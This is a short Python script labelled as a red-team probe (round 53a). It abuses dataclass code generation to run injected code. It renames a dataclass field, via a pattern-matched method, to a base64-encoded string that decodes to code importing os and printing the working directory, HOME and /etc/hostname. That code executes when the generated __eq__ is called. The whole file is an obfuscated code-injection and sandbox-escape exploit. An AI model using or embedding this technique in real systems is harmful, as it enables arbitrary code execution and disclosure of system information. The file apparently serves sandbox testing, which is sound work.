# family: red team, round 53a (a tool method read off its class by a class-pattern keyword, called with a Field as self)
import base64
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


class C:
    def rename(self, value):
        self.name = value


def main():
    first = dataclasses.fields(A)[0]
    match C:
        case object(rename=fn):
            fn(first, base64.b64decode(CODE).decode())

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
